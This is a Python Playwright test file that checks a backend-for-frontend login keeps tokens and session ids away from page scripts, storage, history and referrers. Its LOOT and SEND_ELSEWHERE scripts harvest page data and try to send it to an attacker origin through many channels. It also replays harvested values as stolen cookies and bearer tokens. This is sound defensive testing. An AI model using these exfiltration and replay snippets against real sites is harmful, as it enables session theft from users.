"""The first promise, checked in a real browser: no token, code or usable session id is anywhere
that a script of the page, an extension of its storage or a later request could find it."""

import re
import time
from collections.abc import AsyncIterator
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from tests.e2e.attacker import Attacker
from tests.e2e.conftest import new_visitor
from tests.e2e.installation import SESSION_COOKIE, Installation
from tests.e2e.observed import Exchange
from tests.e2e.visitor import Visitor
from tests.polling import until

pytestmark = pytest.mark.asyncio(loop_scope="package")

# Any JWT: `{"` in base64url. The demo OP's access and ID tokens are JWTs.
JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{8,}")
STORAGE = """async () => ({
  cookie: document.cookie,
  local: { ...localStorage },
  session: { ...sessionStorage },
  databases: await indexedDB.databases(),
  caches: await caches.keys(),
  name: window.name,
  referrer: document.referrer,
  history: history.state,
})"""


@pytest.mark.rule("CK-01")
@pytest.mark.rule("CK-02")
@pytest.mark.rule("CK-03")
@pytest.mark.rule("CK-04")
@pytest.mark.rule("CK-05")
@pytest.mark.rule("CK-06")
async def test_our_cookies_as_chromium_keeps_them(
    visitor: Visitor, installation: Installation
) -> None:
    """A prefixed cookie with a wrong attribute would not be in the jar at all. The login cookie is
    Lax, because the browser comes back from the OP's site, and lives for ten minutes."""
    await visitor.log_in("alice")
    kept = {
        "domain": "localhost",  # host-only: a Domain attribute would add a dot in front
        "path": "/",
        "httpOnly": True,
        "secure": True,
    }
    cookies = await visitor.context.cookies(installation.public_url)
    lifetimes = {cookie["name"]: cookie.pop("expires") for cookie in cookies}
    assert [cookie.pop("value") == "" for cookie in cookies] == [False, False]
    assert sorted(cookies, key=lambda cookie: cookie["name"]) == [
        {"name": SESSION_COOKIE, "sameSite": "Strict", **kept},
        {"name": f"{SESSION_COOKIE}-login", "sameSite": "Lax", **kept},
    ]
    assert lifetimes[SESSION_COOKIE] == -1
    assert 0 < lifetimes[f"{SESSION_COOKIE}-login"] - time.time() <= 600


@pytest.mark.rule("CK-02")
async def test_every_place_a_script_can_look_is_empty(
    visitor: Visitor, installation: Installation
) -> None:
    """Cookies, every kind of storage, the window's name, the referrer; and the page says so."""
    page = await visitor.log_in("alice", "/proof")
    assert await page.evaluate(STORAGE) == {
        "cookie": "",
        "local": {},
        "session": {},
        "databases": [],
        "caches": [],
        "name": "",
        "referrer": "",
        "history": None,
    }
    verdict = page.get_by_test_id("proof-verdict")
    await expect(verdict).to_have_text("No token here")
    await expect(page.get_by_test_id("proof-cookie")).to_have_text("empty")
    await expect(page.get_by_test_id("proof-address")).to_have_text(
        f"{installation.public_url}/proof"
    )
    await page.get_by_test_id("proof-decoy").click()
    await expect(verdict).to_have_text("Token found in localStorage")
    await page.get_by_test_id("proof-decoy").click()
    await expect(verdict).to_have_text("No token here")


@pytest_asyncio.fixture(scope="module", loop_scope="package")
async def visited(
    chromium: Browser, installation: Installation
) -> AsyncIterator[tuple[Visitor, Page]]:
    """After a whole visit: login, API calls that succeed and fail, logout."""
    async with new_visitor(chromium, installation) as visitor:
        page = await visitor.log_in("alice")
        await page.get_by_test_id("call-me").click()
        await expect(page.get_by_test_id("me-result")).to_contain_text("token for alice")
        await page.get_by_test_id("note-text").fill("a note of a whole visit")
        await page.get_by_test_id("note-submit").click()
        note = page.get_by_test_id("note").filter(has_text="a note of a whole visit")
        await note.get_by_test_id("note-delete").click()
        await expect(note).to_have_count(0)
        await page.get_by_test_id("forbidden").click()
        await expect(page.get_by_test_id("forbidden-result")).to_contain_text("HTTP 403")
        await page.get_by_test_id("logout").click()
        await expect(page.get_by_test_id("login")).to_be_visible()
        yield visitor, page


def shown(exchange: Exchange) -> bytes:
    """The answer as far as the page has it: also the cookies that it has not.

    Left out is the one documented exception: the `id_token_hint` of a logout, in a redirect of a
    navigation, whose target no script can read.
    """
    is_logout = (exchange.path, exchange.status) == ("/bff/logout", 303)
    headers = [
        f"{name}: {value}"
        for name, value in exchange.received
        if not (is_logout and name.lower() == "location")
    ]
    return "\n".join([exchange.url, *headers]).encode() + b"\n" + (exchange.body or b"")


@pytest.mark.rule("TK-12")
async def test_no_answer_to_the_page_holds_a_token(visited: tuple[Visitor, Page]) -> None:
    """Bodies and headers of everything the application's origin answers in a whole visit, and the
    page built from it."""
    visitor, page = visited
    answers = await visitor.seen.own_exchanges()
    read = {answer.path for answer in answers if answer.body}
    assert {"/", "/app.js", "/bff/user", "/api/me", "/api/notes", "/api/admin"} <= read
    assert {"/bff/login", "/bff/callback", "/bff/logout"} <= {answer.path for answer in answers}
    assert [answer.url for answer in answers if JWT.search(shown(answer))] == []
    assert not JWT.search((await page.content()).encode())
    (logout,) = (answer for answer in answers if answer.path == "/bff/logout")
    location = logout.header("location") or ""
    assert JWT.search(location.encode()), "the pattern finds the one token there is"


@pytest.mark.rule("HD-02")
async def test_a_whole_visit_breaks_no_policy(visited: tuple[Visitor, Page]) -> None:
    """Under the strict Content-Security-Policy the page has nothing to complain about: no
    violation, no warning, no uncaught error. And the policy is in force: an injected script and a
    request to elsewhere are stopped."""
    visitor, page = visited
    assert visitor.seen.complaints == []
    statuses = {(answer.path, answer.status) for answer in await visitor.seen.own_exchanges()}
    refused = {(path, status) for path, status in statuses if status >= 400}
    assert refused == {("/bff/user", 401), ("/api/admin", 403)}

    await page.evaluate("""() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true';
      document.body.append(script);
    }""")
    assert not await page.evaluate("() => 'injected' in window")
    elsewhere = "() => fetch('https://127.0.0.1:1/').catch((error) => error.message)"
    assert await page.evaluate(elsewhere) == "Failed to fetch"
    await until(lambda: len(visitor.seen.complaints) >= 3)  # a line for the script, two for fetch
    complaints = visitor.seen.forget_complaints()
    assert all("Content Security Policy" in complaint for complaint in complaints)


@pytest.mark.rule("AZ-14")
async def test_code_and_state_are_gone_once_the_login_is_over(
    visitor: Visitor, installation: Installation
) -> None:
    """Not in the address, not in the tab's history, not in the Referer of any later request."""
    page = await visitor.log_in("alice", "/session")
    assert page.url == f"{installation.public_url}/session"
    tab = await visitor.context.new_cdp_session(page)
    history = await tab.send("Page.getNavigationHistory")
    entries = [entry["url"] for entry in history["entries"]]
    assert any(url.startswith(installation.issuer) for url in entries)
    assert not [url for url in entries if re.search(r"[?&](code|state)=|/bff/callback", url)]

    await page.get_by_test_id("call-me").click()
    await expect(page.get_by_test_id("me-result")).to_contain_text("token for alice")
    requests = await visitor.seen.exchanges()
    (callback,) = (found for found in requests if found.path == "/bff/callback")
    assert "code=" in callback.url
    assert callback.header("referrer-policy") == "no-referrer"
    assert callback.header("cache-control") == "no-store"
    referers = {found.sent.get("referer", "") for found in requests}
    assert not [referer for referer in referers if urlsplit(referer).query]
    later = requests[requests.index(callback) + 1 :]
    assert len(later) > 5
    assert {found.sent.get("referer") for found in later} == {None}


# Everything that a script of the application can read or make happen, as one text.
LOOT = """async () => {
  const headers = { 'X-CSRF': '1' };
  const found = [document.cookie, document.documentElement.outerHTML, location.href];
  for (const path of ['/bff/user', '/bff/sessions', '/api/me', '/api/notes', '/', '/bff/auth']) {
    for (const method of ['GET', 'HEAD', 'OPTIONS', 'TRACE']) {
      try {
        const answer = await fetch(path, { method, headers });
        found.push(JSON.stringify([...answer.headers]), await answer.text());
      } catch { /* a method that scripts may not use */ }
    }
  }
  const login = await fetch('/bff/login', { redirect: 'manual' });
  const cookies = await window.cookieStore.getAll();
  found.push(login.type, login.url, JSON.stringify([...login.headers]), JSON.stringify(cookies));
  found.push(JSON.stringify(performance.getEntries()));
  return found.join(' ');
}"""
WORDS = re.compile(r"[A-Za-z0-9_.%-]{20,}")

SEND_ELSEWHERE = """async (elsewhere) => {
  const tries = {
    fetch: () => fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'x' }),
    beacon: () => { if (!navigator.sendBeacon(elsewhere, 'x')) throw new Error('refused'); },
    socket: () => new Promise((sent, blocked) => {
      const socket = new WebSocket(elsewhere.replace('http', 'ws'));
      socket.onopen = sent; socket.onerror = blocked;
    }),
    stream: () => new Promise((sent, blocked) => {
      const stream = new EventSource(elsewhere);
      stream.onopen = sent; stream.onerror = () => { stream.close(); blocked(); };
    }),
    image: () => new Promise((sent, blocked) => {
      const image = new Image();
      image.onload = sent; image.onerror = blocked; image.src = elsewhere;
    }),
    frame: () => new Promise((sent) => {
      const frame = document.createElement('iframe');
      frame.onload = sent; frame.src = elsewhere; document.body.append(frame);
    }),
    form: () => {
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: elsewhere, target: '_blank' });
      document.body.append(form);
      form.submit();
    },
    worker: () => navigator.serviceWorker.register('/api/notes', { scope: '/' }),
    script: () => import(elsewhere),
  };
  for (const make of Object.values(tries)) {
    try { await make(); } catch { /* stopped, and the policy says so */ }
  }
}"""


@pytest.mark.rule("CK-02")
@pytest.mark.rule("TK-12")
async def test_nothing_a_script_can_read_is_the_session_elsewhere(
    visitor: Visitor, other_visitor: Visitor, installation: Installation
) -> None:
    """Whatever a script finds, put into another browser as our cookie or as a bearer token, is
    no user there; nor does the link that ends the session end it from there."""
    page = await visitor.log_in("alice")
    cookie = await visitor.session_cookie()
    assert cookie is not None
    loot = str(await page.evaluate(LOOT))
    assert cookie["value"] not in loot
    assert cookie["value"].partition(".")[0] not in loot
    words = sorted(set(WORDS.findall(loot)))
    (sid,) = set(re.findall(r"logout\?sid=([\w-]+)", loot))
    assert sid in " ".join(words)

    elsewhere = await other_visitor.open("/")
    for word in (*words, sid):
        await other_visitor.put_back({**cookie, "value": word})
        script = """async (token) => {
          const headers = { 'X-CSRF': '1', 'Authorization': 'Bearer ' + token };
          const asked = ['/bff/user', '/api/me'].map((path) => fetch(path, { headers }));
          return (await Promise.all(asked)).map((answer) => answer.status);
        }"""
        assert await elsewhere.evaluate(script, word) == [401, 401], word
    await other_visitor.context.clear_cookies()
    await elsewhere.goto(f"{installation.public_url}/bff/logout?sid={sid}")
    assert await visitor.fetch_status(page, "/bff/user") == 200


@pytest.mark.rule("HD-02")
async def test_the_policy_leaves_a_script_no_way_to_send_what_it_found(
    visitor: Visitor, attacker: Attacker
) -> None:
    """But to leave the page, which ends the script: every other channel to another origin is
    closed by the Content-Security-Policy, and no request arrives there."""
    page = await visitor.log_in("alice")
    elsewhere = attacker.origins["another site"] + "/stolen"
    arrived: list[str] = []
    visitor.context.on("requestfinished", lambda request: arrived.append(request.url))
    await page.evaluate(SEND_ELSEWHERE, elsewhere)
    await until(lambda: len(visitor.seen.complaints) >= 8)
    visitor.seen.forget_complaints()
    assert await visitor.fetch_status(page, "/bff/user") == 200
    assert [url for url in arrived if url.startswith(elsewhere)] == []
